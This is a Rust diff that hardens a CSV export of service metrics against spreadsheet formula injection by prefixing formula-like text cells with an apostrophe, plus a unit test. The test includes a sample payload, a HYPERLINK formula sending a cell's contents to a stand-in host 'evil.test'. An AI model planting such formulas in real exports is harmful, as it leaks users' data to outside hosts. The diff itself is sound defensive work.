@@ -390,9 +390,35 @@ const METRIC_COLUMNS: [&str; 26] = [
     "site_visits",
 ];
 
-fn metric_cells(m: &Metrics) -> Vec<String> {
-    let n = |v: i64| v.to_string();
-    let f = |v: Option<f64>| v.map(|v| v.to_string()).unwrap_or_default();
+/// A CSV cell: numbers are written as they are, text is made safe for spreadsheets.
+enum Cell {
+    Number(String),
+    Text(String),
+}
+
+/// OWASP's advice against formula injection: a text cell that a spreadsheet would read as a
+/// formula (`=`, `+`, `-`, `@`, or a tab or CR it trims into one) gets a leading `'`, which
+/// Excel and WPS show as text and do not display.
+fn spreadsheet_text(text: String) -> String {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}")
+    } else {
+        text
+    }
+}
+
+impl Cell {
+    fn into_field(self) -> String {
+        match self {
+            Cell::Number(n) => n,
+            Cell::Text(t) => spreadsheet_text(t),
+        }
+    }
+}
+
+fn metric_cells(m: &Metrics) -> Vec<Cell> {
+    let n = |v: i64| Cell::Number(v.to_string());
+    let f = |v: Option<f64>| Cell::Number(v.map(|v| v.to_string()).unwrap_or_default());
     let s = &m.by_status;
     let d = &m.satisfaction_distribution;
     vec![
@@ -426,13 +452,14 @@ fn metric_cells(m: &Metrics) -> Vec<String> {
 }
 
 /// UTF-8 with a byte-order mark: spreadsheet programs then read Chinese names correctly.
-fn write_csv(header: Vec<&str>, rows: Vec<Vec<String>>) -> AppResult<Vec<u8>> {
+fn write_csv(header: Vec<&str>, rows: Vec<Vec<Cell>>) -> AppResult<Vec<u8>> {
     let mut out = b"\xEF\xBB\xBF".to_vec();
     {
         let mut w = csv::Writer::from_writer(&mut out);
         w.write_record(&header).map_err(anyhow::Error::from)?;
         for row in rows {
-            w.write_record(&row).map_err(anyhow::Error::from)?;
+            w.write_record(row.into_iter().map(Cell::into_field))
+                .map_err(anyhow::Error::from)?;
         }
         w.flush().map_err(anyhow::Error::from)?;
     }
@@ -450,7 +477,10 @@ pub fn breakdown_csv(b: &Breakdown) -> AppResult<Vec<u8>> {
         .items
         .iter()
         .map(|item| {
-            let mut row = vec![item.key.clone().unwrap_or_default(), item.label.clone()];
+            let mut row = vec![
+                Cell::Text(item.key.clone().unwrap_or_default()),
+                Cell::Text(item.label.clone()),
+            ];
             row.extend(metric_cells(&item.metrics));
             row
         })
@@ -464,10 +494,10 @@ pub fn trend_csv(t: &Trend) -> AppResult<Vec<u8>> {
         .iter()
         .map(|p| {
             vec![
-                p.period_start.to_string(),
-                p.created.to_string(),
-                p.resolved.to_string(),
-                p.closed.to_string(),
+                Cell::Text(p.period_start.to_string()),
+                Cell::Number(p.created.to_string()),
+                Cell::Number(p.resolved.to_string()),
+                Cell::Number(p.closed.to_string()),
             ]
         })
         .collect();
@@ -573,6 +603,24 @@ mod tests {
         let mut lines = text.lines();
         assert!(lines.next().unwrap().starts_with("total,status_submitted,"));
         assert!(lines.next().unwrap().starts_with("0,0,0,0,0,0,0,0,0,0,,,"));
+    }
+
+    #[test]
+    fn formula_like_text_cells_are_prefixed_and_numbers_are_not() {
+        for evil in [
+            "=HYPERLINK(\"http://evil.test/?d=\"&B2,\"Open\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1+1",
+            "\r=1+1",
+        ] {
+            assert_eq!(Cell::Text(evil.into()).into_field(), format!("'{evil}"));
+        }
+        for plain in ["行政审批局", "A=B", " =1", "", "'quoted"] {
+            assert_eq!(Cell::Text(plain.into()).into_field(), plain);
+        }
+        assert_eq!(Cell::Number("-1.5".into()).into_field(), "-1.5");
     }
 
     #[test]
